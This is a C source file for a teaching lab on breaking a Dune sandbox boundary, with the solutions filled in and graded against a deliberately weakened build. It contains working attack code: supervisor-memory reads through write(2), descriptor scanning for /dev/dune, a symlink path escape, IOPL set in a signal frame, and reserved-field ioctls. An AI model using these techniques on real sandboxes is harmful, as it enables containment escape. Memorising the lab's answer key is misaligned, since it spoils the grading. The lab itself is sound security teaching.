// SPDX-License-Identifier: GPL-2.0
/*
 * attacks - lab 8: attacks on the Dune boundary (docs/labs/lab8.md).
 *
 *   attacks NAME...    run the named attacks, one line each:
 *
 *	attack NAME: breached - EVIDENCE   the boundary let it through
 *	attack NAME: refused - HOW         stopped, the way it must be
 *	attack NAME: unclear - WHY         neither (a setup problem)
 *	attack NAME: not tried             (the starter's stubs)
 *
 * Four run as the untrusted program of dune-sandbox, in guest ring 3:
 *
 *   supervisor_pointer  make the host kernel read supervisor memory for
 *                       the program: a system call whose buffer is not
 *                       the program's (mem.c's windows);
 *   supervisor_fd       reach one of the supervisor's descriptors - the
 *                       /dev/dune it opened, its VM, the vCPUs (fds.c);
 *   path_escape         read a file the policy hides, through a name the
 *                       policy allows (paths.c, check_opened);
 *   iopl_sigreturn      execute a privileged instruction in ring 3 by
 *                       giving yourself I/O privilege: RFLAGS.IOPL is in
 *                       the signal frame that rt_sigreturn loads
 *                       (libdune/trap.c, r3_sanitise).
 *
 * One runs outside the sandbox, as any /dev/dune user (root in the
 * emulated machine):
 *
 *   dune_reserved       an ioctl whose reserved fields are not zero
 *                       (kmod/uapi/linux/dune.h: the module must refuse it).
 *
 * tests/labs/attack_check runs them against the real sandbox and against
 * a weakened one (labs/lab8-weak.patch, built only for the grader): an
 * attack scores when it breaches the weakened boundary and the real one
 * refuses it.  A program that only says "refused" proves nothing: the
 * same code must get through where the boundary has the hole.
 */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <ucontext.h>
#include <unistd.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>

#include <linux/dune.h>

/* libdune's page-table pool (libdune/dune.h PAGEBASE): supervisor memory. */
#define SUP		0x200000000UL
/* /dev/dune is a misc device (kmod/dev.c, misc_register): major 10. */
#define MISC_MAJOR	10
/* A file the grader hides from the program (attack_check: path deny). */
#define HIDDEN_DIR	"/tmp/lab8-hidden"
#define HIDDEN		HIDDEN_DIR "/secret"
/* RFLAGS (SDM Vol. 1, 3.4.3): IF and the two-bit IOPL field. */
#define RFLAGS_IF	0x200UL
#define RFLAGS_IOPL	0x3000UL
#define IOPL_SHIFT	12

enum verdict { NOT_TRIED, REFUSED, BREACHED, UNCLEAR };

static const char *const verdicts[] = {
	[NOT_TRIED] = "not tried", [REFUSED] = "refused",
	[BREACHED] = "breached", [UNCLEAR] = "unclear",
};

/* What the attack saw: printed after its verdict. */
static char evidence[256];
#define SAY(...) snprintf(evidence, sizeof(evidence), __VA_ARGS__)

static sigjmp_buf on_fault;
static volatile sig_atomic_t usr1_seen;
/* sched_yield()s to wait for a signal sent to ourselves: a system call's return delivers it */
#define SIGNAL_WAIT	1000

/* SIGSEGV: how the sandbox reports a ring-3 fault (#GP, #PF) to the program. */
static void segv(int sig)
{
	(void)sig;
	siglongjmp(on_fault, 1);
}

/* SIGUSR1's handler for iopl_sigreturn: the frame rt_sigreturn will load. */
static void raise_iopl(int sig, siginfo_t *si, void *ctx)
{
	ucontext_t *uc = ctx;

	(void)sig;
	(void)si;
	uc->uc_mcontext.gregs[REG_EFL] |= RFLAGS_IOPL;
	usr1_seen = 1;
}

static unsigned long rflags(void)
{
	unsigned long f;

	__asm__ __volatile__("pushfq; popq %0" : "=r"(f) : : "memory");
	return f;
}

/* ---- in the sandbox ------------------------------------------------------------- */

static enum verdict supervisor_pointer(void)
{
	/* LAB(8) BEGIN: hand the host kernel a pointer to supervisor memory (SUP) in a system call */
	char got[64];
	int p[2];
	long r;

	if (pipe(p)) {
		SAY("pipe: %s", strerror(errno));
		return UNCLEAR;
	}
	/* write(2) reads its buffer in the host kernel: SUP is mapped there */
	r = write(p[1], (void *)SUP, sizeof(got));
	if (r == (long)sizeof(got) && read(p[0], got, sizeof(got)) == (long)sizeof(got)) {
		uint64_t first;

		memcpy(&first, got, sizeof(first));
		SAY("write(2) from %#lx sent %ld bytes of libdune's page tables (first entry %#lx)",
		    SUP, r, (unsigned long)first);
		return BREACHED;
	}
	SAY("write(2) from %#lx: %s", SUP, r < 0 ? strerror(errno) : "short");
	return r < 0 && errno == EFAULT ? REFUSED : UNCLEAR;
	/* LAB(8) STUB
	 * return NOT_TRIED;
	 * LAB(8) END
	 */
}

static enum verdict supervisor_fd(void)
{
	/* LAB(8) BEGIN: find the supervisor's /dev/dune among the descriptor numbers (raw fstat) */
	struct stat st;
	int fd, open_ones = 0;

	/*
	 * The raw fstat: glibc's fstat() is newfstatat(fd, "", AT_EMPTY_PATH),
	 * a directory-descriptor argument; this one is a plain descriptor.
	 */
	for (fd = 3; fd < 1024; fd++) {
		if (syscall(SYS_fstat, fd, &st))
			continue;
		open_ones++;
		if (S_ISCHR(st.st_mode) && major(st.st_rdev) == MISC_MAJOR) {
			SAY("descriptor %d is a misc device %u:%u - the supervisor's /dev/dune",
			    fd, major(st.st_rdev), minor(st.st_rdev));
			return BREACHED;
		}
	}
	SAY("no descriptor from 3 to 1023 leads to /dev/dune (%d open ones of the program's)",
	    open_ones);
	return REFUSED;
	/* LAB(8) STUB
	 * return NOT_TRIED;
	 * LAB(8) END
	 */
}

static enum verdict path_escape(void)
{
	/* LAB(8) BEGIN: read HIDDEN through a name the policy allows (a symbolic link in /tmp) */
	char link[64], buf[64];
	ssize_t n;
	int fd;

	fd = open(HIDDEN, O_RDONLY);
	if (fd >= 0) {
		close(fd);
		SAY("%s opens by its own name: the policy does not hide it", HIDDEN);
		return UNCLEAR;
	}
	snprintf(link, sizeof(link), "/tmp/lab8-link.%d", (int)getpid());
	unlink(link);
	if (symlink(HIDDEN, link)) {
		SAY("symlink %s: %s", link, strerror(errno));
		return UNCLEAR;
	}
	fd = open(link, O_RDONLY);
	if (fd < 0) {
		int e = errno;

		unlink(link);
		SAY("open(%s -> %s): %s", link, HIDDEN, strerror(e));
		return e == EACCES ? REFUSED : UNCLEAR;
	}
	unlink(link);
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	buf[n > 0 ? n : 0] = 0;
	buf[strcspn(buf, "\n")] = 0;
	SAY("read \"%s\" from %s through %s", buf, HIDDEN, link);
	return BREACHED;
	/* LAB(8) STUB
	 * return NOT_TRIED;
	 * LAB(8) END
	 */
}

static enum verdict iopl_sigreturn(void)
{
	/* LAB(8) BEGIN: set RFLAGS.IOPL in a signal frame (raise_iopl), return, then execute CLI */
	struct sigaction sa;
	unsigned long before, after;
	int i;

	memset(&sa, 0, sizeof(sa));
	sa.sa_sigaction = raise_iopl;
	sa.sa_flags = SA_SIGINFO;
	sigaction(SIGUSR1, &sa, NULL);
	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = segv;
	sigaction(SIGSEGV, &sa, NULL);

	kill(getpid(), SIGUSR1);
	for (i = 0; !usr1_seen && i < SIGNAL_WAIT; i++)
		sched_yield();
	if (!usr1_seen) {
		SAY("SIGUSR1 sent to itself never came");
		return UNCLEAR;
	}
	before = rflags();
	if (sigsetjmp(on_fault, 1)) {
		SAY("RFLAGS.IOPL %lu after rt_sigreturn; CLI raised SIGSEGV (#GP)",
		    (before & RFLAGS_IOPL) >> IOPL_SHIFT);
		return REFUSED;
	}
	__asm__ __volatile__("cli" : : : "memory");
	after = rflags();
	__asm__ __volatile__("sti" : : : "memory");
	SAY("RFLAGS.IOPL %lu after rt_sigreturn; CLI ran in ring 3 (RFLAGS %#lx, IF %s)",
	    (before & RFLAGS_IOPL) >> IOPL_SHIFT, after, after & RFLAGS_IF ? "still set" : "clear");
	return after & RFLAGS_IF ? UNCLEAR : BREACHED;
	/* LAB(8) STUB
	 * return NOT_TRIED;
	 * LAB(8) END
	 */
}

/* ---- a /dev/dune user ---------------------------------------------------------------- */

static enum verdict dune_reserved(void)
{
	/* LAB(8) BEGIN: DUNE_GET_VMX_INFO with flags or one reserved word nonzero; a control call first */
	struct dune_vmx_info info;
	unsigned int i, accepted = 0, refused = 0;
	int fd = open("/dev/dune", O_RDWR | O_CLOEXEC);

	if (fd < 0) {
		SAY("/dev/dune: %s", strerror(errno));
		return UNCLEAR;
	}
	memset(&info, 0, sizeof(info));
	if (ioctl(fd, DUNE_GET_VMX_INFO, &info)) {
		SAY("the control call (every input field 0) failed: %s", strerror(errno));
		close(fd);
		return UNCLEAR;
	}
	/* word ~0: flags; then each reserved word */
	for (i = 0; i <= sizeof(info.reserved) / sizeof(info.reserved[0]); i++) {
		memset(&info, 0, sizeof(info));
		if (i == 0)
			info.flags = 1;
		else
			info.reserved[i - 1] = 1;
		if (ioctl(fd, DUNE_GET_VMX_INFO, &info) == 0)
			accepted++;
		else if (errno == EINVAL)
			refused++;
	}
	close(fd);
	SAY("control call ok; flags and reserved[0..%zu] set one at a time: %u refused (EINVAL), %u accepted",
	    sizeof(info.reserved) / sizeof(info.reserved[0]) - 1, refused, accepted);
	if (accepted)
		return BREACHED;
	return refused == 1 + sizeof(info.reserved) / sizeof(info.reserved[0]) ? REFUSED : UNCLEAR;
	/* LAB(8) STUB
	 * return NOT_TRIED;
	 * LAB(8) END
	 */
}

static const struct {
	const char *name;
	enum verdict (*fn)(void);
} attacks[] = {
	{ "supervisor_pointer", supervisor_pointer },
	{ "supervisor_fd", supervisor_fd },
	{ "path_escape", path_escape },
	{ "iopl_sigreturn", iopl_sigreturn },
	{ "dune_reserved", dune_reserved },
};

int main(int argc, char **argv)
{
	int i, bad = 0;
	size_t j;

	setvbuf(stdout, NULL, _IONBF, 0);	/* a line out before a crash */
	if (argc < 2) {
		fprintf(stderr, "usage: attacks NAME...\n");
		for (j = 0; j < sizeof(attacks) / sizeof(attacks[0]); j++)
			fprintf(stderr, "  %s\n", attacks[j].name);
		return 2;
	}
	for (i = 1; i < argc; i++) {
		enum verdict v;

		for (j = 0; j < sizeof(attacks) / sizeof(attacks[0]); j++)
			if (!strcmp(argv[i], attacks[j].name))
				break;
		if (j == sizeof(attacks) / sizeof(attacks[0])) {
			fprintf(stderr, "attacks: no attack '%s'\n", argv[i]);
			bad = 2;
			continue;
		}
		evidence[0] = 0;
		v = attacks[j].fn();
		printf("attack %s: %s%s%s\n", attacks[j].name, verdicts[v], evidence[0] ? " - " : "",
		       evidence);
	}
	return bad;
}
